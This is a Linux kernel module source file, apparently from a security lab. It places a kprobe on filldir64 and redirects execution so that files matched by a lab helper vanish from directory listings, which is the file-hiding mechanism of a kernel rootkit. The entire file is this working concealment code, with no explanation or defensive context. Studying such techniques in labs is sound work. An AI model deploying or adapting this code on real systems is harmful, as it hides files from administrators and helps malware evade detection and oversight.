// SPDX-License-Identifier: GPL-2.0-only
/* A kprobe skips the function that adds an entry to a directory listing. */
#include "lab.h"

/* Runs in place of the probed function and returns to its caller. */
static lab_fill skip(void)
{
	return LAB_GO_ON;
}

static int before(struct kprobe *p, struct pt_regs *regs)
{
	const char *name = (const char *)regs->si;

	if (!lab_hidden(name, (int)regs->dx))
		return 0;
	regs->ip = (unsigned long)skip;
	return 1;
}
NOKPROBE_SYMBOL(before);

static struct kprobe probe = { .symbol_name = "filldir64", .pre_handler = before };

static int __init probe_init(void)
{
	return register_kprobe(&probe);
}

static void __exit probe_exit(void)
{
	unregister_kprobe(&probe);
}
module_init(probe_init);
module_exit(probe_exit);
